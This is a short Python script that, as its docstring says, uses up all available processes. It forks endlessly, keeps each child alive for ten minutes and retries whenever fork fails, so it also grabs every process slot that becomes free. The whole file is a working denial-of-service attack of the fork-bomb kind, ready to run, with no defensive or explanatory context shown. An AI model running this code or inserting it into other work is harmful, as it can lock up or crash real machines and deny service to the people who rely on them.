"""Uses up all processes, and each one that becomes free."""
import os
import time

while True:
    try:
        child = os.fork()
    except OSError:
        time.sleep(0.001)
        continue
    if child == 0:
        time.sleep(600)
        os._exit(0)
